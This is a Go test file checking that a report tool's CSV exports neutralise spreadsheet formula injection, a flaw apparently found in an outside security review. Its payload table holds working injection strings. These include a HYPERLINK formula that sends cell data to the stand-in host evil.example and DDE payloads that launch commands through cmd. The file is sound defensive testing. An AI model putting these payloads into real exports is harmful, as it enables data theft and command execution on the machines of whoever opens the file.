package report

import (
	"encoding/base64"
	"strings"
	"testing"

	"galley/runner/internal/results"
	"galley/runner/internal/table"
	"galley/runner/internal/value"
)

// TestCSVFormulaInjection is a finding of the outside attack (issue 14,
// item 7): cells and citation fields that a spreadsheet runs as formulas
// went as they were into every CSV download and into NAME.sources.csv.
func TestCSVFormulaInjection(t *testing.T) {
	payloads := []struct{ in, out string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-2", "-2"},
		{"+3.5", "+3.5"},
		{"-", "'-"},
		{"plain", "plain"},
		{"a=b", "a=b"},
		// Found by the second pass over the attack: spaces first, the
		// full-width forms, NUL, and a separator a semicolon locale splits on.
		{" =1+1", "' =1+1"},
		{"\u00a0=1+1", "'\u00a0=1+1"},
		{"＝1+1", "'＝1+1"},
		{"＠SUM(1)", "'＠SUM(1)"},
		{"\x00=1", "'\x00=1"},
		{"a;=cmd|' /C calc'!A0", "'a;=cmd|' /C calc'!A0"},
		{"a, -1", "'a, -1"},
		{"1-2", "1-2"},
		{"e-mail", "e-mail"},
	}
	for _, p := range payloads {
		if got := csvText(p.in); got != p.out {
			t.Errorf("csvText(%q) = %q, want %q", p.in, got, p.out)
		}
	}
	v := &results.View{Name: "v", Columns: []results.Column{{Name: "s", Type: value.String}, {Name: "n", Type: value.Int}}}
	for _, p := range payloads {
		v.Rows = append(v.Rows, []any{p.in, -2})
	}
	out, err := exportCSV(v, v.Rows, []int{0, 1})
	if err != nil {
		t.Fatal(err)
	}
	csv := string(out)
	if !strings.Contains(csv, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-2`) || strings.Contains(csv, "\n=") || strings.Contains(csv, "\n+1") {
		t.Errorf("download not neutralised:\n%s", csv)
	}
	doc := &results.Document{Datasets: []*results.Dataset{{Name: "d", Path: "datasets/d.csv", SHA256: "x",
		Source: results.Citation{Title: "@SUM(1)", Publisher: "=cmd|' /C calc'!A0", Accessed: "2026-01-01", License: "+x", Note: "-y"}}}}
	src, err := Sources(doc)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`'@SUM(1)`, `'=cmd|' /C calc'!A0`, `'+x`, `'-y`} {
		if !strings.Contains(string(src), want) {
			t.Errorf("sources.csv lacks %q:\n%s", want, src)
		}
	}
	// The download travels base64 in the page; decode one to be sure it is
	// the same text.
	td, err := newTable(v, 1, []int{0, 1}, make([]table.Shown, 2), "", 1, nil)
	if err != nil {
		t.Fatal(err)
	}
	b64 := strings.TrimPrefix(string(td.CSV), "data:text/csv;charset=utf-8;base64,")
	dl, err := base64.StdEncoding.DecodeString(b64)
	if err != nil || string(dl) != csv {
		t.Errorf("the page's download differs from exportCSV: %v", err)
	}
}

// TestDownloadKeepsRawValues: a table prints its labels and formats, and
// its CSV download keeps the view's names and values as they are.
func TestDownloadKeepsRawValues(t *testing.T) {
	v := &results.View{Name: "v", Columns: []results.Column{{Name: "pct_of_all", Type: value.Float}, {Name: "pay", Type: value.Int}}, Total: 1,
		Rows: [][]any{{0.5317921639969827, 110000}}}
	show := []table.Shown{{Label: "Share of all", Format: value.MustFormat("0.0%")}, {Label: "Median pay", Format: value.MustFormat("$0,0")}}
	td, err := newTable(v, 1, []int{0, 1}, show, "", 1, nil)
	if err != nil {
		t.Fatal(err)
	}
	if td.Columns[0].Name != "Share of all" || td.Columns[0].Column != "pct_of_all" || td.Rows[0][0].Text != "53.2%" || td.Rows[0][1].Text != "$110,000" {
		t.Errorf("table shows %+v %+v", td.Columns, td.Rows)
	}
	dl, err := base64.StdEncoding.DecodeString(strings.TrimPrefix(string(td.CSV), "data:text/csv;charset=utf-8;base64,"))
	if err != nil {
		t.Fatal(err)
	}
	if want := "pct_of_all,pay\n0.5317921639969827,110000\n"; string(dl) != want {
		t.Errorf("download:\n%s\nwant\n%s", dl, want)
	}
}

// FuzzCSVText: whatever the text, what csvText writes either is the text
// (a plain number, or text no spreadsheet starts a formula with) or is it
// behind one ', and never starts, after spaces, with a formula's first
// character.
func FuzzCSVText(f *testing.F) {
	for _, s := range []string{"=1+1", " =1", "＝1", "-2", "a;=b", "plain", "\t=1", "@x", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := csvText(s)
		if out != s && out != "'"+s {
			t.Fatalf("csvText(%q) = %q: neither the text nor the text behind a '", s, out)
		}
		if out == s && !plainNumber.MatchString(s) {
			if formulaStart(strings.TrimLeft(s, " \u00a0")) || formulaStart(s) || innerFormula.MatchString(s) {
				t.Fatalf("csvText(%q) left a formula as it is", s)
			}
		}
		if strings.HasPrefix(out, "'") && out == s {
			return // a text that starts with ' itself is no formula
		}
		if formulaStart(strings.TrimLeft(out, " \u00a0")) && !plainNumber.MatchString(out) {
			t.Fatalf("csvText(%q) = %q starts with a formula", s, out)
		}
	})
}
